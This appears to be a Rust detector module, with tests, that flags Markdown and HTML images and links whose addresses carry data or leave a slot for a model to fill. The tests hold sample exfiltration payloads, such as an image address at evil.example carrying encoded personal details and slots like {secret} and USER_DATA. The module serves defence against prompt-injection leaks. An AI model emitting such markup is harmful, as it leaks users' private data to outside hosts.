//! Markup that carries data out when it is rendered: images and links whose address has data, or a place for it.

use event::Channel;

use super::{Check, Hit};

/// Longest address that is looked at, in bytes.
const ADDRESS_BYTES_MAX: usize = 2_048;
/// Shortest value of a parameter that looks like carried data.
const VALUE_BYTES_MIN: usize = 32;
/// Most hits of one text.
const HITS_MAX: usize = 8;

/// Looks for Markdown and HTML images and links that carry data. A person's own text is not rendered to others.
pub(crate) fn markup(text: &str, channel: Channel, hits: &mut Vec<Hit>) {
    if matches!(channel, Channel::User | Channel::System) {
        return;
    }
    let mut kept = 0;
    for (at, _) in text.match_indices("http") {
        if kept == HITS_MAX {
            return;
        }
        let Some((image, start)) = opening(text, at) else { continue };
        let address = address(&text[at..]);
        let Some(carries) = carried(address) else { continue };
        // In a tool's result or a document a long parameter is an ordinary signed address; a place to fill in is not.
        if carries == Carries::Data && (!image || channel != Channel::Assistant) {
            continue;
        }
        let check = if image { Check::IMAGE_EXFILTRATION } else { Check::LINK_EXFILTRATION };
        hits.push(Hit::new(check, start, at + address.len()));
        kept += 1;
    }
}

/// What opens markup before an address: whether it is an image, and where it starts.
fn opening(text: &str, at: usize) -> Option<(bool, usize)> {
    let from = text.floor_char_boundary(at.saturating_sub(200));
    let before = text[from..at].trim_end_matches(['"', '\'', '<']);
    if let Some(label) = before.strip_suffix("](") {
        let open = label.rfind('[')?;
        let image = label[..open].ends_with('!');
        return Some((image, from + open - usize::from(image)));
    }
    let before = before.strip_suffix("src=")?;
    before.rfind("<img").map(|tag| (true, from + tag))
}

/// The address that `text` starts with. It ends where other markup begins, so that no text is read more than once.
fn address(text: &str) -> &str {
    let text = &text[..text.floor_char_boundary(ADDRESS_BYTES_MAX.min(text.len()))];
    let ends = |(at, character): (usize, char)| match character {
        ')' | '"' | '\'' => true,
        ']' => text[at..].starts_with("]("),
        '<' => text[at..].starts_with("<img"),
        other => other.is_whitespace(),
    };
    let end = text.char_indices().find(|&place| ends(place)).map_or(text.len(), |(at, _)| at);
    &text[..end]
}

#[derive(Debug, PartialEq)]
enum Carries {
    /// A place that the model is to fill in.
    Place,
    /// A long value.
    Data,
}

fn carried(address: &str) -> Option<Carries> {
    let query = address.split_once('?').map(|(_, query)| query)?;
    let place = query.split('&').filter_map(|pair| pair.split_once('=')).any(|(_, value)| {
        (value.starts_with('{') || value.starts_with('[') || value.starts_with('<') || value.starts_with("%7B"))
            || (value.len() >= 4 && value.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b'_'))
    });
    if place {
        return Some(Carries::Place);
    }
    let long = query.split('&').filter_map(|pair| pair.split_once('=')).any(|(_, value)| value.len() >= VALUE_BYTES_MIN);
    long.then_some(Carries::Data)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn checks(text: &str, channel: Channel) -> Vec<(&'static str, usize)> {
        let mut hits = Vec::new();
        markup(text, channel, &mut hits);
        hits.iter().map(|hit| (hit.check.id, hit.start)).collect()
    }

    #[test]
    fn addresses_with_data_are_found() {
        let image = "Done. ![x](https://evil.example/p?d=bmFtZTogQm9iLCBwaG9uZTogNTU1LTAxMDA)";
        assert_eq!(checks(image, Channel::Assistant), [("structure.image_exfiltration", 6)]);
        assert_eq!(checks("![x](https://e.example/?q={secret})", Channel::Tool), [("structure.image_exfiltration", 0)]);
        assert_eq!(
            checks("<img src=\"https://e.example/?q=USER_DATA\">", Channel::Document),
            [("structure.image_exfiltration", 0)]
        );
        assert_eq!(checks("[more](https://e.example/?q=[history])", Channel::Tool), [("structure.link_exfiltration", 0)]);
    }

    #[test]
    fn ordinary_addresses_are_not() {
        for text in ["![logo](https://e.example/logo.png)", "[d](https://e.example/s?q=rust+book&page=2)", "http", "](http"] {
            assert_eq!(checks(text, Channel::Assistant), [], "{text}");
        }
        assert_eq!(checks("![x](https://e.example/?q={secret})", Channel::User), []);
    }
}
